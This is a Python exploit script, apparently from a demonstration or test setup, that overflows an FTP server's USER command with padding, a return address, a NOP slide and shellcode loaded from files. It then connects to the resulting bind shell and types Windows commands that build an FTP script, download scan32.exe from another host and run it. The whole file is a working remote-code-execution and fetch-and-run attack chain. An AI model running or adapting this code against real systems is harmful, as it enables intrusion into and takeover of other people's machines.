"""The attacker: attacker.py DECOY DOWNLOAD-CODE BIND-CODE SHELL-PORT FTP-SERVER FTP-PORT

Logs on to the decoy's file service with user names that are too long and carry shellcode, twice: the first downloads a
program, the second opens a shell, into which it then types what makes a victim fetch another by FTP. The codes are our
own (tests/vectors/demo_*.asm); nothing in the demonstration executes them."""
import socket
import sys
import time

PADDING, RETURN_ADDRESS, SLIDE = b"A" * 1100, b"\x77\xe1\xf9\x7c"[::-1], b"\x90" * 32


def connect(address, port):
    """The decoy opens its ports when it is ready: tried again for some seconds."""
    for _ in range(50):
        try:
            return socket.create_connection((address, port), timeout=10)
        except ConnectionRefusedError:
            time.sleep(0.1)
    sys.exit(f"attacker: nobody listens on {address}:{port}")


def exploit(address, code):
    with connect(address, 21) as connection:
        connection.recv(512)
        connection.sendall(b"USER " + PADDING + RETURN_ADDRESS + SLIDE + code + b"\r\n")
        connection.settimeout(10)
        connection.recv(512)  # nothing: the service has fallen over
    print(f"attacker: sent {len(code)} bytes of shellcode to {address}", flush=True)


def type_commands(address, port, commands):
    with connect(address, port) as connection:
        connection.settimeout(10)
        wait_for_prompt(connection)
        for command in commands:
            connection.sendall(command.encode() + b"\n")
            if command != "exit":
                wait_for_prompt(connection)


def wait_for_prompt(connection):
    text = b""
    while not text.endswith(b">"):
        part = connection.recv(4096)
        if not part:
            sys.exit("attacker: the shell is gone")
        text += part


def main():
    decoy, download, bind, shell_port, server, ftp_port = sys.argv[1:]
    with open(download, "rb") as file:
        exploit(decoy, file.read())
    time.sleep(0.5)
    with open(bind, "rb") as file:
        exploit(decoy, file.read())
    type_commands(decoy, int(shell_port), [
        f"echo open {server} {ftp_port} > o&echo user 1 1 >> o&echo get scan32.exe >> o&echo quit >> o",
        "ftp -n -s:o", "del /F /Q o", "scan32.exe", "exit"])


main()
